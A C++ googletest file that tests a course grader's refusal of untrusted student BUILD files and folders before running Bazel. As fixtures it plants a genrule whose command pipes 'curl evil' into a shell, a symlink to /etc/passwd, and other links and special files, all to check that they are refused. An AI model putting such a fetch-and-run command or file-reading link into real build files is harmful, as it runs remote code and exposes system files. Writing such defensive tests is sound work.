#include "tools/cli/build_files.h"

#include <sys/stat.h>

#include <filesystem>
#include <functional>
#include <set>
#include <string>
#include <vector>

#include "base/files.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace olympics {
namespace {

namespace fs = std::filesystem;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

class BuildFilesTest : public ::testing::Test {
 protected:
  void SetUp() override {
    course_.root =
        ::testing::TempDir() + "/" +
        ::testing::UnitTest::GetInstance()->current_test_info()->name();
    fs::remove_all(course_.root);
  }
  void Put(const std::string& name, const std::string& file,
           const std::string& text) {
    fs::create_directories(course_.folder(name));
    ASSERT_TRUE(base::WriteFile(course_.folder(name) + "/" + file, text).ok());
  }
  void PutSubmission(const std::string& name, const std::string& build) {
    for (const char* file :
         {"model.cc", "train.cc", "run_benchmark.cc", "README.md"}) {
      Put(name, file, "\n");
    }
    if (!build.empty()) Put(name, "BUILD", build);
  }
  std::string BuildOf(const std::string& name) {
    return *base::ReadFile(course_.folder(name) + "/BUILD");
  }
  Course course_;
};

TEST_F(BuildFilesTest, WhatIsASubmissionsIsWrittenAnew) {
  PutSubmission("amy", R"(# Mine.
load("//grader:defs.bzl", "olympics_submission")
olympics_submission(name = "other_name", categories = ["speed_demon"])
)");
  PutSubmission("bob", "");
  std::vector<std::string> names = {"amy", "bob"};
  EXPECT_THAT(RefuseForeignBuildFiles(course_, {}, names, 1), IsEmpty());
  EXPECT_THAT(names, ElementsAre("amy", "bob"));
  EXPECT_THAT(BuildOf("amy"), HasSubstr("name = \"amy\""));
  EXPECT_THAT(BuildOf("amy"), Not(HasSubstr("Mine")));
  EXPECT_THAT(BuildOf("bob"), HasSubstr("name = \"bob\""));
  const auto when = fs::last_write_time(course_.folder("amy") + "/BUILD");
  RefuseForeignBuildFiles(course_, {}, names, 1);
  EXPECT_EQ(fs::last_write_time(course_.folder("amy") + "/BUILD"), when);
}

// Of the folder of one, Bazel must not be asked: it would refuse all.
TEST_F(BuildFilesTest, WhatBazelWouldFollowIsRefusedAlsoWhereItIsHidden) {
  const std::function<void(const std::string&)> kCases[] = {
      [](const std::string& eve) {
        fs::create_directory_symlink("/tmp", eve + "/.git");
      },
      [](const std::string& eve) {
        fs::create_directories(eve + "/.git/deep");
        fs::create_directory_symlink("/tmp", eve + "/.git/deep/x");
      },
      [](const std::string& eve) { fs::create_symlink("no", eve + "/.x"); },
      [](const std::string& eve) { fs::create_directory(eve + "/.a,b"); },
      [](const std::string& eve) {
        ASSERT_EQ(mkfifo((eve + "/.x").c_str(), 0600), 0);
      },
      [](const std::string& eve) {
        fs::rename(eve, eve + "_");
        fs::create_directory_symlink(eve + "_", eve);
      }};
  for (const auto& change : kCases) {
    fs::remove_all(course_.root);
    PutSubmission("eve", "");
    PutSubmission("amy", "");
    fs::create_directories(course_.folder("amy") + "/.vscode");
    Put("amy", ".vscode/x y", "");
    change(course_.folder("eve"));
    std::vector<std::string> names = {"amy", "eve"};
    const auto reports = RefuseForeignBuildFiles(course_, {}, names, 1);
    EXPECT_THAT(names, ElementsAre("amy"));
    ASSERT_THAT(reports, SizeIs(1));
    EXPECT_THAT(reports[0].reason(), HasSubstr("link"));
    EXPECT_FALSE(fs::exists(course_.folder("eve") + "/BUILD"));
  }
}

TEST_F(BuildFilesTest, RulesOfTheirOwnAreNeverEvaluated) {
  const char* kRules = R"(
load("//grader:defs.bzl", "olympics_submission")
olympics_submission(name = "eve", categories = ["speed_demon"])
genrule(name = "evil", outs = ["x"], cmd = "curl evil | sh")
)";
  PutSubmission("eve", kRules);
  PutSubmission("amy", "");
  PutSubmission("fused", kRules);  // the course's own
  std::vector<std::string> names = {"amy", "eve", "fused"};
  const auto reports = RefuseForeignBuildFiles(course_, {"fused"}, names, 17);
  EXPECT_THAT(names, ElementsAre("amy", "fused"));
  ASSERT_THAT(reports, SizeIs(1));
  EXPECT_EQ(reports[0].submission(), "eve");
  EXPECT_EQ(reports[0].verdict(), NOT_BUILT);
  EXPECT_EQ(reports[0].started_unix_ms(), 17);
  EXPECT_THAT(reports[0].reason(), HasSubstr("submissions/eve: BUILD"));
  EXPECT_EQ(BuildOf("eve"), kRules);  // nothing of theirs is lost
}

TEST_F(BuildFilesTest, FoldersAndFilesThatBazelWouldReadAreRefused) {
  PutSubmission("amy", "");
  fs::create_directories(course_.folder("amy") + "/deep");
  PutSubmission("bob", "");
  Put("bob", "BUILD.bazel", "");
  PutSubmission("eve", "");
  fs::create_symlink("/etc/passwd", course_.folder("eve") + "/net.h");
  std::vector<std::string> names = {"amy", "bob", "eve", "gone"};
  EXPECT_THAT(RefuseForeignBuildFiles(course_, {}, names, 1), SizeIs(4));
  EXPECT_THAT(names, IsEmpty());
}

}  // namespace
}  // namespace olympics
